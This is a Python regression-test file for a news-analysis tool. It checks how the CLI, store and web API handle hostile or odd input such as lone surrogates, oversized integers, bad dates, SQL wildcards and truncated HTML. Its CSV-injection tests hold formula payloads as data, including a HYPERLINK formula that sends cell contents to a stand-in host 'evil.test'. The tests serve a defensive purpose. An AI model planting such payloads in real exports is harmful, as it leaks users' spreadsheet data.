"""Issue 17, hostile and odd input: one regression test per failure found, named after it.

Most build their articles by hand (no spaCy); the few that run the real analysis are marked slow.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from dossier import cli
from dossier.errors import InputError, StoreError
from dossier.ingest import losses, read
from dossier.ingest.clean import cap_document, scrub_document
from dossier.ingest.records import check_date
from dossier.model import Article, Document
from dossier.store import Store
from dossier.store.export import csv_cell, export
from dossier.web.app import create_app

BIG = "9223372036854775808"  # 2**63: one past SQLite's largest integer
HUGE = "99999999999999999999999"
SRC = str(Path(__file__).resolve().parents[1] / "src")


def hashed(store_article: Any, n: int, text: str, path: str) -> Article:
    """A hand-built article identified as the engine identifies a file: by its content hash, source = path."""
    from dossier.engine import content_hash

    a: Article = store_article(n, text=text, source={"path": path})
    return Article.from_dict({**a.to_dict(), "id": content_hash(text)[:16], "content_hash": content_hash(text)})


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``dossier ARGS`` in a subprocess running this worktree's code."""
    env = {**os.environ, "PYTHONPATH": SRC, "PYTHONWARNINGS": "ignore"}
    return subprocess.run(
        [sys.executable, "-m", "dossier.cli", *args], cwd=cwd, capture_output=True, text=True, env=env, timeout=600
    )


def cli_exit(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """``dossier ARGV`` in process: (exit code, stderr)."""
    try:
        code = cli.main(argv)
    except SystemExit as exc:
        code = int(exc.code or 0)
    return code, capsys.readouterr().err


# ---------------------------------------------------------------- 1. lone surrogates
def surrogate_jsonl(path: Path) -> Path:
    lines = [
        json.dumps({"id": "good-1", "text": "Ann Lee opened the library in Paris."}),
        '{"id": "bad-text", "text": "Bad \\ud800 text here."}',
        '{"id": "bad-title", "text": "Bo Chan won in Rome.", "title": "x\\udc00", "outlet": "\\ud800"}',
        '{"id": "bad-html", "html": "<p>Cut \\udfff here in Oslo.</p>"}',
        '{"id": "\\ud800", "text": "An id that is not text."}',
        json.dumps({"id": "good-2", "text": "Kaja Kallas spoke in Tallinn."}),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_lone_surrogate_in_jsonl_record_costs_only_itself(tmp_path: Path) -> None:
    items = list(read([str(surrogate_jsonl(tmp_path / "s.jsonl"))]))
    docs = [i for i in items if isinstance(i, Document)]
    assert [d.id for d in docs][:4] == ["good-1", "bad-text", "bad-title", "bad-html"]
    assert docs[-1].id == "good-2" and len(docs) == 6  # nothing lost, good records untouched
    for d in docs:
        for value in (d.text, d.id, d.title, d.outlet, *d.warnings):
            (value or "").encode("utf-8")  # every string is valid Unicode now
    bad = docs[1]
    assert bad.text == "Bad \ufffd text here." and len(bad.text) == len("Bad \ud800 text here.")  # offsets kept
    assert losses(bad.warnings) and "offset 4" in losses(bad.warnings)[0]
    assert docs[2].title == "x\ufffd" and any(w.startswith("outlet:") for w in docs[2].warnings)
    assert losses(docs[0].warnings) == [] and losses(docs[-1].warnings) == []


def test_surrogates_in_any_document_field_are_replaced_before_analysis() -> None:
    doc = Document(text="a\ud83db", title="t\udc00", authors=("A\ud800",), url="https://x.test/\ud800")
    clean = scrub_document(doc)
    assert clean.text == "a\ufffdb" and clean.authors == ("A\ufffd",) and clean.url == "https://x.test/\ufffd"
    assert len(losses(clean.warnings)) == 4
    assert scrub_document(Document(text="fine 😀")) == Document(text="fine 😀")  # a real pair is a character


def test_store_refuses_lone_surrogate_loudly_and_keeps_the_batch_out(tmp_path: Path, store_article: Any) -> None:
    good, bad = store_article(1), store_article(2, text="Bad \ud800 text.")
    with Store(str(tmp_path / "d.db")) as store:
        with pytest.raises(StoreError, match=r"art-2.*not valid Unicode"):
            store.write([good, bad])
        assert store.stats()["articles"] == 0  # one transaction: nothing half-written, and it said so


@pytest.mark.slow
def test_lone_surrogate_in_jsonl_does_not_crash_analyze_or_ingest(tmp_path: Path) -> None:
    surrogate_jsonl(tmp_path / "s.jsonl")
    analysed = run("analyze", "s.jsonl", "--format", "jsonl", cwd=tmp_path)
    assert "Traceback" not in analysed.stderr and analysed.returncode == 1  # 1: content was replaced, and said
    ids = [json.loads(line)["id"] for line in analysed.stdout.splitlines()]
    assert ids[:4] == ["good-1", "bad-text", "bad-title", "bad-html"] and ids[-1] == "good-2"
    assert sum("s.jsonl:2:" in line for line in analysed.stderr.splitlines()) == 1
    stored = run("ingest", "s.jsonl", "--db", "s.db", "--quiet", "--workers", "1", cwd=tmp_path)
    assert "Traceback" not in stored.stderr and "6 new" in stored.stderr
    with Store(str(tmp_path / "s.db"), readonly=True) as store:
        assert store.stats()["articles"] == 6


@pytest.mark.slow
def test_lone_surrogate_in_jsonl_does_not_crash_batch(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    from dossier.ingest.batch import read_articles
    from dossier.spark.job import run_batch

    surrogate_jsonl(tmp_path / "s.jsonl")
    report = run_batch([str(tmp_path / "s.jsonl")], str(tmp_path / "out"), engine="local", workers=1)
    assert (report.articles, report.failed) == (6, 0)
    texts = [a.text for a in read_articles(str(tmp_path / "out")) if not isinstance(a, InputError)]
    assert "Bad \ufffd text here." in texts and len(texts) == 6


# ---------------------------------------------------------------- 2. numbers past 2^63
def test_ids_and_limits_beyond_int64_are_404_or_422_never_500(tmp_path: Path, store_article: Any) -> None:
    db = str(tmp_path / "d.db")
    with Store(db) as store:
        store.write([store_article(1)])
    with TestClient(create_app(db), raise_server_exceptions=False) as c:
        for path in (f"/api/entities/{BIG}", f"/api/stories/{BIG}", f"/entities/{BIG}", f"/stories/{HUGE}"):
            r = c.get(path)
            assert r.status_code == 404, (path, r.status_code)
        bad_numbers = [f"/api/articles?limit={BIG}", f"/api/articles?offset={BIG}", f"/api/search?q=a&limit={HUGE}"]
        bad_numbers += [f"/api/timeline?offset={BIG}", f"/articles?offset={BIG}", f"/api/entities?offset=-{BIG}"]
        for path in bad_numbers:
            r = c.get(path)
            assert r.status_code == 422, (path, r.status_code)


def test_cli_numbers_beyond_int64_are_one_line_and_exit_2(
    tmp_path: Path, store_article: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "d.db")
    with Store(db) as store:
        store.write([store_article(1)])
    for argv in (
        ["search", "Kyiv", "--limit", HUGE, "--db", db],
        ["stories", "--limit", BIG, "--db", db],
        ["timeline", "--limit", "-1", "--db", db],
        ["ingest", "x.txt", "--workers", HUGE, "--db", db],
        ["search", "Kyiv", "--limit", "١٢", "--db", db],  # digits, but not ASCII ones
    ):
        code, err = cli_exit(argv, capsys)
        assert code == 2, argv
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    code, err = cli_exit(["entity", HUGE, "--db", db], capsys)  # a name that is a number: not found, no crash
    assert code == 1 and err.strip() == f"dossier: no entity matches '{HUGE}' in {db}"


# ---------------------------------------------------------------- 3. publication dates
@pytest.mark.parametrize(
    ("given", "stored"),
    [("2024-03-05", "2024-03-05"), ("2024-03-05T23:10:00+02:00", "2024-03-05"),
     ("Tue, 07 Mar 2023 10:00:00 +0000", "2023-03-07"), ("20240305", "2024-03-05")],
)  # fmt: skip
def test_iso_and_rfc_2822_publication_dates_are_read(given: str, stored: str) -> None:
    assert check_date(given) == stored


@pytest.mark.parametrize(("given", "why"), [("10/05/2024", "ambiguous"), ("2024-13-45", "cannot read"),
                                            ("notadate", "cannot read"), ("2023-02-29", "cannot read")])  # fmt: skip
def test_publication_dates_are_validated_on_the_cli_and_the_api(
    given: str, why: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(ValueError, match=why):
        check_date(given)
    (tmp_path / "a.txt").write_text("Ann Lee spoke.", encoding="utf-8")
    for command in ("analyze", "ingest"):
        code, err = cli_exit([command, str(tmp_path / "a.txt"), "--published", given], capsys)
        assert code == 2 and why in err and len(err.strip().splitlines()) == 1
    db = str(tmp_path / "d.db")
    Store(db).close()
    with TestClient(create_app(db, token="t")) as c:
        r = c.post("/api/ingest", json={"text": "Ann Lee spoke.", "published": given},
                   headers={"Authorization": "Bearer t"})  # fmt: skip
    assert r.status_code == 422 and why in r.json()["error"] and r.json()["error"].startswith("invalid request: body")


# ---------------------------------------------------------------- 4. two ingests creating one store
OPENER = """
import os, sys
sys.path.insert(0, {src!r})
from dossier.store import Store
from dossier.store.db import all_migrations
all_migrations()  # everything imported before the start signal, so that all open the new file at once
print("ready", flush=True)
while not os.path.exists(sys.argv[2]):
    pass
Store(sys.argv[1]).close()
"""


def test_two_ingests_creating_the_same_new_store_both_open_it(tmp_path: Path) -> None:
    # without the creation lock about one attempt in fifteen failed with "database is locked" (4 openers each)
    script = tmp_path / "opener.py"
    script.write_text(OPENER.format(src=SRC), encoding="utf-8")
    failures = []
    for attempt in range(12):
        db, go = tmp_path / f"new-{attempt}" / "d.db", tmp_path / f"go-{attempt}"
        procs = [
            subprocess.Popen(
                [sys.executable, str(script), str(db), str(go)], stdout=subprocess.PIPE, stderr=subprocess.PIPE
            )
            for _ in range(4)
        ]
        for p in procs:
            assert p.stdout is not None and p.stdout.readline().strip() == b"ready"
        go.touch()  # all four create the same new store at the same moment
        failures += [p.communicate(timeout=120)[1].decode() for p in procs if p.wait(timeout=120) != 0]
    assert failures == []
    with Store(str(db), readonly=True) as store:
        assert store.stats()["articles"] == 0


# ---------------------------------------------------------------- 5. ids with '/'
def test_article_ids_with_slashes_open_in_the_ui_and_the_api(tmp_path: Path, store_article: Any) -> None:
    db = str(tmp_path / "d.db")
    aid = "https://news.example/2024/03/spy-swap?x=1"
    with Store(db) as store:
        store.write([store_article(1, id=aid)])
    from urllib.parse import quote

    with TestClient(create_app(db)) as c:
        for prefix in ("/api/articles/", "/articles/"):
            r = c.get(prefix + quote(aid, safe=""))
            assert r.status_code == 200, prefix
        assert c.get("/api/articles/" + quote(aid, safe="")).json()["id"] == aid
        assert c.get("/api/articles/https:/news.example/nothing").status_code == 404
        listing = c.get("/articles").text
    assert f'href="/articles/{quote(aid, safe="")}"' in listing


# ---------------------------------------------------------------- 6. re-ingesting an edited file
def test_reingesting_an_edited_text_file_replaces_its_article(tmp_path: Path, store_article: Any) -> None:
    old = hashed(store_article, 1, "Artem Zinchenko said he left Kyiv in 2016, Yahoo News reported. Old.", "a.txt")
    other = hashed(store_article, 2, "Artem Zinchenko2 said he left Kyiv in 2016, Yahoo News reported. Two.", "b.txt")
    new = hashed(store_article, 1, "Artem Zinchenko said he left Kyiv in 2016, Yahoo News reported. New!", "a.txt")
    assert new.id != old.id
    with Store(str(tmp_path / "d.db")) as store:
        store.write([old, other])
        result = store.write([new])
        again = store.write([new])
        assert (result.added, result.updated, again.skipped) == (0, 1, 1)
        assert store.stats()["articles"] == 2
        stored = store.article(old.id)  # the file keeps its id
        assert stored is not None and stored["text"] == new.text and store.article(new.id) is None
        assert store.known_path("a.txt") == new.content_hash
        conn = store.conn
        assert conn.execute("SELECT count(*) FROM quotes WHERE article_id = ?", (old.id,)).fetchone()[0] == 1
        assert conn.execute("SELECT count(*) FROM story_articles WHERE article_id = ?", (old.id,)).fetchone()[0] == 1
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_records_of_a_container_are_not_replaced_by_path(tmp_path: Path, store_article: Any) -> None:
    one = hashed(store_article, 1, "Ann Lee opened the library.", "feed.jsonl:3")
    two = hashed(store_article, 2, "Bo Chan won the race.", "feed.jsonl:3")
    with Store(str(tmp_path / "d.db")) as store:
        store.write([one])
        assert store.write([two]).added == 1


@pytest.mark.slow
def test_reingesting_an_edited_text_file_is_no_reprint_of_itself(tmp_path: Path) -> None:
    from dossier.api import ingest

    f = tmp_path / "a.txt"
    f.write_text("Kaja Kallas said on Tuesday that Estonia would never return the spy to Russia.\n")
    db = str(tmp_path / "d.db")
    assert ingest([str(f)], db=db).added == 1
    f.write_text("Kaja Kallas said on Tuesday that Estonia would never hand the spy back to Moscow.\n")
    report = ingest([str(f)], db=db)
    assert (report.added, report.updated) == (0, 1)
    assert ingest([str(f)], db=db).skipped == 1  # unchanged since: not analysed again
    with Store(db, readonly=True) as store:
        assert store.stats()["articles"] == 1
        (story,) = store.stories()
        assert len(story["articles"]) == 1 and "Moscow" in (store.iter_articles().__next__().text)


# ---------------------------------------------------------------- 7. LIKE wildcards
def test_like_wildcards_in_entity_queries_match_only_themselves(
    tmp_path: Path, store_article: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "d.db")
    with Store(db) as store:
        store.write([store_article(1), store_article(2)])
        assert store.entities("Kyiv") and store.entities("%") == [] and store.entities("_") == []
        assert store.entity("%") is None and store.entity("Zinchenko1") is not None
    code, err = cli_exit(["entity", "%", "--db", db], capsys)
    assert code == 1 and "no entity matches '%'" in err
    with TestClient(create_app(db)) as c:
        assert c.get("/api/entities", params={"q": "%"}).json()["items"] == []
        assert c.get("/api/entities", params={"q": "_"}).json()["items"] == []
        assert c.get("/api/entities", params={"q": "yi"}).json()["items"]


# ---------------------------------------------------------------- 8. CSV formula injection
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")'])
def test_csv_cells_starting_a_formula_are_escaped(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell
    assert csv_cell("Kyiv") == "Kyiv" and csv_cell(-1) == -1 and csv_cell(None) is None


def test_csv_export_cannot_run_formulas_in_a_spreadsheet(tmp_path: Path, store_article: Any) -> None:
    evil = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    with Store(str(tmp_path / "d.db")) as store:
        store.write([store_article(1, title=evil, outlet="@cmd", authors=("-2+3",))])
        out = io.StringIO()
        export(store, "csv", out, table="articles")
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["title"] == "'" + evil and row["outlet"] == "'@cmd"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


# ---------------------------------------------------------------- 9. the rest of the promises
@pytest.mark.slow
def test_truncated_html_is_analysed_and_reported_with_exit_1(tmp_path: Path) -> None:
    (tmp_path / "cut.html").write_text(
        "<html><head><title>Cut</title></head><body><article><p>The council met on Tuesday to vote on the "
        "budget, the mayor said in a statement.</p><p>Then",
        encoding="utf-8",
    )
    proc = run("analyze", "cut.html", "--format", "jsonl", cwd=tmp_path)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith("dossier: cut.html: html: the page looks truncated")
    assert "council met on Tuesday" in json.loads(proc.stdout)["text"]


def test_analyze_paths_returns_errors_and_articles_in_input_order(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dossier import api, engine

    def fake_engine(documents: Iterable[Document], options: Any = None, **_: Any) -> Iterator[Article]:
        batch: list[Document] = []
        for d in documents:  # consumes ahead in batches, as spaCy's pipe does
            batch.append(d)
            if len(batch) == 3:
                yield from (Article.from_dict({"id": x.text.strip(), "text": x.text}) for x in batch)
                batch = []
        yield from (Article.from_dict({"id": x.text.strip(), "text": x.text}) for x in batch)

    monkeypatch.setattr(engine, "analyze_documents", fake_engine)
    names = ["a", "bad1", "b", "c", "bad2", "bad3", "d", "e", "bad4"]
    for n in names:
        (tmp_path / f"{n}.txt").write_bytes(b"" if n.startswith("bad") else n.encode())
    got = [
        Path(i.source).stem if isinstance(i, InputError) else i.id
        for i in api.analyze_paths([str(tmp_path / f"{n}.txt") for n in names])
    ]
    assert got == names


def test_timeline_is_paged_like_the_other_list_routes(tmp_path: Path, store_article: Any) -> None:
    import dataclasses

    db = str(tmp_path / "d.db")
    with Store(db) as store:  # three articles reporting three events of different years (not one event merged)
        arts = []
        for n, year in ((1, "2014"), (2, "2015"), (3, "2016")):
            a = store_article(n)
            ev = a.events[0]
            arts.append(
                dataclasses.replace(a, events=(dataclasses.replace(ev, date=dataclasses.replace(ev.date, value=year)),))
            )
        store.write(arts)
    with TestClient(create_app(db)) as c:
        first = c.get("/api/timeline?limit=2").json()
        rest = c.get(f"/api/timeline?limit=2&offset={first['next_offset']}").json()
        assert (len(first["items"]), first["next_offset"]) == (2, 2)
        assert (len(rest["items"]), rest["next_offset"]) == (1, None)
        assert c.get("/api/timeline?limit=101").status_code == 422


def test_head_is_answered_like_get_without_a_body(tmp_path: Path) -> None:
    db = str(tmp_path / "d.db")
    Store(db).close()
    with TestClient(create_app(db)) as c:
        for path in ("/", "/api/stats", "/api/articles", "/openapi.json", "/static/app.js", "/api/articles/nope"):
            got, head = c.get(path), c.head(path)
            assert head.status_code == got.status_code and head.content == b"", path
            assert head.headers["content-type"] == got.headers["content-type"]
            assert head.headers["x-content-type-options"] == "nosniff"


def test_analyze_bytes_says_pass_str_or_bytes_with_an_encoding() -> None:
    import dossier

    with pytest.raises(TypeError, match="pass str, or bytes with an encoding"):
        dossier.analyze(b"Ann Lee spoke in Paris.")  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="not int"):
        dossier.analyze(42)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="not utf-8"):
        dossier.analyze(b"\xff\xfe caf\xe9", encoding="utf-8")
    with pytest.raises(ValueError, match="ambiguous"):
        dossier.analyze("Ann Lee spoke.", published="10/05/2024")


@pytest.mark.slow
def test_analyze_accepts_bytes_with_their_encoding() -> None:
    import dossier

    article = dossier.analyze("Café owner Ann Lee spoke in Zürich.".encode("cp1252"), encoding="cp1252")
    assert article.text == "Café owner Ann Lee spoke in Zürich."


def test_ingest_refuses_a_foreign_sqlite_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    foreign = tmp_path / "crm.db"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
        conn.execute("INSERT INTO customers(name) VALUES ('Ann')")
    conn.close()
    with pytest.raises(StoreError, match="not a dossier store"):
        Store(str(foreign))
    (tmp_path / "a.txt").write_text("Ann Lee spoke.", encoding="utf-8")
    code, err = cli_exit(["ingest", str(tmp_path / "a.txt"), "--db", str(foreign), "--quiet"], capsys)
    assert code == 1 and "not a dossier store" in err and len(err.strip().splitlines()) == 1
    with sqlite3.connect(foreign) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    conn.close()
    assert tables == ["customers"]  # not one table added
    empty = tmp_path / "empty.db"
    sqlite3.connect(empty).close()  # an empty SQLite file is made into a store
    with Store(str(empty)) as store:
        assert store.stats()["articles"] == 0


# ---------------------------------------------------------------- 10. long documents
def test_over_long_article_is_cut_at_the_cap_with_a_warning_naming_the_cut() -> None:
    text = ("The council met again. " * 1000).strip()
    doc = cap_document(Document(text=text, path="long.txt"), 10_000)
    assert len(doc.text) <= 10_000 and text.startswith(doc.text) and doc.text.endswith(".")
    (warning,) = losses(doc.warnings)
    assert f"{len(text):,} characters" in warning and f"cut {len(doc.text):,}–{len(text):,}" in warning
    assert cap_document(doc, None) is doc and cap_document(doc, 10_000) is doc
    one_word = cap_document(Document(text="x" * 50), 20)
    assert one_word.text == "x" * 20  # no break to cut at: cut at the cap


@pytest.mark.slow
def test_long_document_is_analysed_in_pieces_and_merged_with_offsets_that_line_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import dossier
    from dossier import pieces

    paragraph = "Kaja Kallas said on Tuesday that Estonia would “never” return the spy, Reuters reported.\n\n"
    text = paragraph * 12 + "Ann Lee then flew to Paris on Friday."
    whole = dossier.analyze(text, published="2023-03-07")
    monkeypatch.setattr(pieces, "PIECE_CHARS", 400)  # five paragraphs a piece: cut at the blank lines
    seen: list[tuple[int, int]] = []
    from dossier.engine import Options, analyze_documents

    (cut,) = analyze_documents(
        [Document(text=text, published="2023-03-07")], Options(), on_piece=lambda d, t: seen.append((d, t))
    )
    assert seen == [(1, 3), (2, 3), (3, 3)] and cut.text == text and cut.id == whole.id
    assert any("analysed in 3 pieces" in w for w in cut.warnings)
    a = cut.to_dict()
    for e in a["entities"]:
        for m in e["mentions"]:
            assert text[m["start"] : m["end"]] == m["text"]
    for key, field in (("quotes", "text"), ("sources", "text"), ("timexes", "text"), ("events", "trigger")):
        for x in a[key]:
            assert text[x["start"] : x["end"]] == x[field], key
    kallas = [e for e in cut.entities if e.name == "Kaja Kallas"]
    assert len(kallas) == 1  # one entity across the pieces, with every named mention
    assert len([m for m in kallas[0].mentions if m.kind == "name"]) == 12
    ids = {e.id for e in cut.entities}
    assert len(ids) == len(cut.entities)
    assert all(q.speaker is None or q.speaker.entity in ids | {None} for q in cut.quotes)
    assert len(cut.quotes) == len(whole.quotes) and len(cut.timexes) == len(whole.timexes)
    assert cut.body == ((0, len(text)),) or cut.body == whole.body


@pytest.mark.slow
def test_long_document_pieces_on_two_workers_give_the_one_process_article(monkeypatch: pytest.MonkeyPatch) -> None:
    from dossier import pieces
    from dossier.engine import Options, analyze_documents
    from dossier.parallel import analyze_parallel

    paragraph = "Kaja Kallas said on Tuesday that Estonia would “never” return the spy, Reuters reported.\n\n"
    long_text = paragraph * 12 + "Ann Lee then flew to Paris on Friday."
    docs = [
        Document(text="Bo Chan spoke in Rome.", id="before"),
        Document(text=long_text, id="long", published="2023-03-07"),
        Document(text="Ann Lee met Bo Chan.", id="after"),
    ]
    monkeypatch.setattr(pieces, "PIECE_CHARS", 400)  # three pieces, cut at blank lines
    one = list(analyze_documents(docs, Options(batch_size=1)))
    seen: list[tuple[int, int]] = []
    two = list(analyze_parallel(docs, Options(batch_size=1), workers=2, on_piece=lambda d, t: seen.append((d, t))))
    assert [a.id for a in two] == ["before", "long", "after"]  # input order kept around the pieces
    assert seen == [(1, 3), (2, 3), (3, 3)]
    assert [a.to_dict() for a in two] == [a.to_dict() for a in one]
    assert any("analysed in 3 pieces" in w for w in two[1].warnings)


@pytest.mark.slow
@pytest.mark.parametrize("mark", ["“", "«", "»", '"', "=", "!?"])
def test_long_punctuation_run_is_one_token_with_a_warning_and_exact_offsets(mark: str) -> None:
    import time

    import dossier
    from dossier.nlp.pipeline import RUN_CHARS, load, parse

    run = mark * (50_000 // len(mark))
    text = "Ann Lee said on Monday that " + run + " was seen in Paris. Bob Smith flew home."
    start = text.index(run)
    (doc,) = parse(load(), [text])
    assert doc.text == text
    assert any(t.idx == start and len(t) > RUN_CHARS for t in doc)  # not split into 50,000 tokens
    clock = time.process_time()
    article = dossier.analyze(text)
    assert time.process_time() - clock < 60  # split by the tokenizer, 50,000 marks took ~4 minutes
    assert article.text == text
    (warning,) = [w for w in article.warnings if "punctuation marks or symbols" in w]
    assert f"{start:,}–{start + len(run):,}" in warning and "offsets are unchanged" in warning
    assert {"Ann Lee", "Bob Smith"} <= {e.name for e in article.entities}
    for e in article.entities:
        assert all(text[m.start : m.end] == m.text for m in e.mentions)


def test_punctuation_runs_up_to_the_limit_are_left_to_the_tokenizer() -> None:
    from dossier.nlp.pipeline import RUN_CHARS, run_warnings, symbol_runs

    assert symbol_runs("a " + "=" * RUN_CHARS + " b") == [] and run_warnings("=" * RUN_CHARS) == []
    text = "x " + "-" * (RUN_CHARS + 1) + " y " + "“" * 500
    assert symbol_runs(text) == [(2, 3 + RUN_CHARS), (6 + RUN_CHARS, 506 + RUN_CHARS)]
    (warning,) = run_warnings(text)
    assert warning.startswith("text: 2 runs of over") and "the longest 500 characters" in warning


@pytest.mark.slow
def test_long_document_warnings_name_offsets_into_the_whole_text(monkeypatch: pytest.MonkeyPatch) -> None:
    """A paragraph that breaks off in a later piece is named at its offset in the whole text, not in its piece."""
    from dossier import pieces
    from dossier.engine import Options, analyze_documents

    paragraph = "Kaja Kallas said on Tuesday that Estonia would never return the spy, Reuters reported.\n\n"
    broken = "Estonia brought back businessman Raivo Susu,"
    text = paragraph * 9 + broken + "\n\n" + paragraph * 2
    monkeypatch.setattr(pieces, "PIECE_CHARS", 400)  # four paragraphs a piece: the broken one is in the third
    (cut,) = analyze_documents([Document(text=text, published="2023-03-07")], Options())
    found = [w for w in cut.warnings if "breaks off" in w]
    assert len(found) == 1
    assert f"at offset {text.index(broken) + len(broken)} " in found[0]
